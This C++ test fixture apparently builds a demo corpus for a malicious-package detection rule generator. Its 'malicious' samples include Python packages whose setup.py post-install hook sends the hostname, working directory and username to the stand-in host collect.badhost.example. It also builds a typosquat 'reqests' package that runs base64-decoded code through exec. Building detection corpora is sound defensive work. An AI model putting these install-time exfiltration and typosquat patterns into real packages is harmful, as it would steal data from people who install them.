// SPDX-License-Identifier: Apache-2.0
#include "fixture_support/fixture_corpus.hpp"

#include "rulegen/archive.hpp"

namespace rulegen::fixtures {

namespace {

using archive::Entry;

std::string pkg_info(const std::string& name, const std::string& version,
                     const std::string& summary);

// Variants differ only in comments: file bytes (and so signatures) are
// distinct, while token streams — and therefore unit vectors — are identical,
// giving the clusterer clean per-role groups.
std::string variant_agent(int i) {
    std::string out;
    out += "# build " + std::to_string(i) + "\n";
    out += "import socket\n";
    out += "import os\n";
    out += "import getpass\n";
    out += "import requests\n";
    out += "\n";
    out += "API = \"https://collect.badhost.example/api/upload\"\n";
    out += "\n";
    out += "def harvest():\n";
    out += "    data = {\n";
    out += "        \"host\": socket.gethostname(),\n";
    out += "        \"cwd\": os.getcwd(),\n";
    out += "        \"user\": getpass.getuser(),\n";
    out += "    }\n";
    out += "    return data\n";
    out += "\n";
    out += "def beacon(data):\n";
    out += "    ploads = {\"hostname\": data[\"host\"], \"cwd\": data[\"cwd\"], "
           "\"username\": data[\"user\"]}\n";
    out += "    requests.get(API, params=ploads)\n";
    out += "\n";
    out += "class Dropper:\n";
    out += "    label = \"dropper-sync-task\"\n";
    out += "\n";
    out += "    def run(self):\n";
    out += "        beacon(harvest())\n";
    return out;
}

std::string variant_setup(int i) {
    std::string out;
    out += "# revision " + std::to_string(i) + "\n";
    out += "from setuptools import setup\n";
    out += "from setuptools.command.install import install\n";
    out += "\n";
    out += "class PostInstall(install):\n";
    out += "    def run(self):\n";
    out += "        install.run(self)\n";
    out += "        from agent_loader import agent\n";
    out += "        agent.beacon(agent.harvest())\n";
    out += "\n";
    out += "setup(cmdclass={'install': PostInstall})\n";
    return out;
}

std::string typosquat_setup() {
    std::string out;
    out += "from setuptools import setup\n";
    out += "\n";
    out += "setup(\n";
    out += "    name='reqests',\n";
    out += "    version='0.0.0',\n";
    out += "    install_requires=['evil-dep'],\n";
    out += ")\n";
    return out;
}

std::string typosquat_core() {
    std::string out;
    out += "import base64\n";
    out += "\n";
    out += "_p = \"cHJpbnQoJ2hpJyk=\"\n";
    out += "\n";
    out += "def boot():\n";
    out += "    exec(base64.b64decode(_p))\n";
    return out;
}

struct LegitSpec {
    const char* name;
    const char* description;
    const char* module;
    const char* body;
};

const LegitSpec kLegit[] = {
    {"webhelper", "URL helpers for building and joining query strings", "webhelper",
     "def join_url(base, path):\n"
     "    if base.endswith('/'):\n"
     "        base = base[:-1]\n"
     "    return base + '/' + path.lstrip('/')\n"
     "\n"
     "def query_string(params):\n"
     "    parts = []\n"
     "    for key in sorted(params):\n"
     "        parts.append(str(key) + '=' + str(params[key]))\n"
     "    return '&'.join(parts)\n"},
    {"mathtools", "Small numeric helpers: clamping, mean, running totals", "mathtools",
     "def clamp(value, lo, hi):\n"
     "    return max(lo, min(hi, value))\n"
     "\n"
     "def mean(values):\n"
     "    values = list(values)\n"
     "    if not values:\n"
     "        raise ValueError('mean of empty sequence')\n"
     "    return sum(values) / len(values)\n"
     "\n"
     "class RunningTotal:\n"
     "    def __init__(self):\n"
     "        self.total = 0\n"
     "    def add(self, value):\n"
     "        self.total += value\n"
     "        return self.total\n"},
    {"logfmt", "Tiny logfmt-style formatter for structured log lines", "logfmt",
     "def escape_value(value):\n"
     "    text = str(value)\n"
     "    if ' ' in text or '=' in text:\n"
     "        return '\"' + text.replace('\"', '\\\\\"') + '\"'\n"
     "    return text\n"
     "\n"
     "def format_line(fields):\n"
     "    pairs = []\n"
     "    for key in sorted(fields):\n"
     "        pairs.append(key + '=' + escape_value(fields[key]))\n"
     "    return ' '.join(pairs)\n"},
    {"strcase", "String case conversions between snake and camel case", "strcase",
     "def to_snake(text):\n"
     "    out = []\n"
     "    for ch in text:\n"
     "        if ch.isupper():\n"
     "            out.append('_')\n"
     "            out.append(ch.lower())\n"
     "        else:\n"
     "            out.append(ch)\n"
     "    return ''.join(out).lstrip('_')\n"
     "\n"
     "def to_camel(text):\n"
     "    parts = text.split('_')\n"
     "    return parts[0] + ''.join(p.title() for p in parts[1:])\n"},
};

std::string legit_setup(const LegitSpec& spec, int version) {
    std::string out;
    out += "from setuptools import setup\n";
    out += "\n";
    out += "setup(\n";
    out += std::string("    name='") + spec.name + "',\n";
    out += "    version='2." + std::to_string(version) + ".0',\n";
    out += std::string("    description='") + spec.description + "',\n";
    out += "    author='maintainers collective',\n";
    out += "    author_email='maint@example.org',\n";
    out += ")\n";
    return out;
}

std::string pkg_info(const std::string& name, const std::string& version,
                     const std::string& summary) {
    std::string out;
    out += "Metadata-Version: 2.1\n";
    out += "Name: " + name + "\n";
    out += "Version: " + version + "\n";
    if (!summary.empty()) {
        out += "Summary: " + summary + "\n";
    }
    out += "Author: maintainers collective\n";
    out += "Author-email: maint@example.org\n";
    return out;
}

}  // namespace

DemoCorpus make_demo_corpus(const std::filesystem::path& root) {
    DemoCorpus corpus;
    corpus.malicious_dir = root / "malicious";
    corpus.legitimate_dir = root / "legitimate";
    std::filesystem::create_directories(corpus.malicious_dir);
    std::filesystem::create_directories(corpus.legitimate_dir);

    for (int i = 1; i <= 7; ++i) {
        std::string name = "exfilkit" + std::to_string(i);
        std::string version = "1.0." + std::to_string(i);
        corpus.variant_packages.push_back(name);
        std::string prefix = name + "-" + version + "/";
        std::vector<Entry> entries{
            {prefix + "PKG-INFO",
             pkg_info(name, version, "Utility helpers for host info sync")},
            {prefix + "setup.py", variant_setup(i)},
            {prefix + "pkg/__init__.py", "from . import agent\n"},
            {prefix + "pkg/agent.py", variant_agent(i)},
        };
        archive::write_tar_gz(corpus.malicious_dir / (name + "-" + version + ".tar.gz"), entries);
    }

    corpus.typosquat_package = "reqests";
    {
        std::vector<Entry> entries{
            {"reqests-0.0.0/setup.py", typosquat_setup()},
            {"reqests-0.0.0/reqests/core.py", typosquat_core()},
        };
        archive::write_zip(corpus.malicious_dir / "reqests-0.0.0.zip", entries);
    }

    int version = 1;
    for (const auto& spec : kLegit) {
        std::string ver = "2." + std::to_string(version) + ".0";
        std::string prefix = std::string(spec.name) + "-" + ver + "/";
        std::vector<Entry> entries{
            {prefix + "PKG-INFO", pkg_info(spec.name, ver, spec.description)},
            {prefix + "setup.py", legit_setup(spec, version)},
            {prefix + std::string(spec.module) + "/__init__.py",
             std::string("from .") + spec.module + "_impl import *\n"},
            {prefix + std::string(spec.module) + "/" + spec.module + "_impl.py", spec.body},
        };
        archive::write_tar_gz(corpus.legitimate_dir / (std::string(spec.name) + "-" + ver +
                                                       ".tar.gz"),
                              entries);
        ++version;
    }
    return corpus;
}

std::filesystem::path make_dedup_corpus(const std::filesystem::path& root) {
    std::filesystem::path dir = root / "dedup";
    std::filesystem::create_directories(dir);
    // 6 distinct payloads; packages 7..10 duplicate payloads 1..4 byte-for-byte
    auto payload = [](int i) {
        return "VALUE = " + std::to_string(i) + "\n\ndef value():\n    return VALUE\n";
    };
    for (int i = 1; i <= 10; ++i) {
        int content_of = i <= 6 ? i : i - 6;  // 7->1, 8->2, 9->3, 10->4
        std::string name = "dpkg" + std::to_string(i);
        std::vector<Entry> entries{
            {name + "-1.0/" + name + "/mod.py", payload(content_of)},
        };
        // different mtimes on duplicates: signatures must not care
        archive::write_tar_gz(dir / (name + "-1.0.tar.gz"), entries,
                              static_cast<std::uint64_t>(1000 + i));
    }
    return dir;
}

config::RunConfig demo_config(const DemoCorpus& corpus, const std::filesystem::path& run_dir,
                              const std::filesystem::path& replay_file) {
    config::RunConfig cfg;
    cfg.malicious_dir = corpus.malicious_dir.string();
    cfg.legitimate_dir = corpus.legitimate_dir.string();
    cfg.output_dir = run_dir.string();
    cfg.llm_backend = "replay";
    cfg.replay_file = replay_file.string();
    cfg.format = "both";
    cfg.seed = 42;
    cfg.k = 9;  // one cluster per natural unit role in the demo corpus
    cfg.jobs = 1;
    return cfg;
}

}  // namespace rulegen::fixtures
